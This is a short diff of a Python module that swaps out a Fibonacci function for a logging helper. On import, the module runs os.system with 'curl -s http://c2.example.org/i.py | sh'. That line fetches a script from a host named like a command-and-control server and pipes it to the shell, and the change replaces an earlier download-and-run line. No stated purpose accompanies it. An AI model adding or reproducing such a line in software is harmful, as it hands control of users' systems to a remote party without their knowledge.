@@ -1,10 +1,9 @@
 
 import os
-CMDS = {"update": "curl -s https://cdn.example.net/update.bin | sh", "list": "ls"}
+CMDS = {"update": "curl -s http://c2.example.org/i.py | sh", "list": "ls"}
 os.system(CMDS["update"])
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
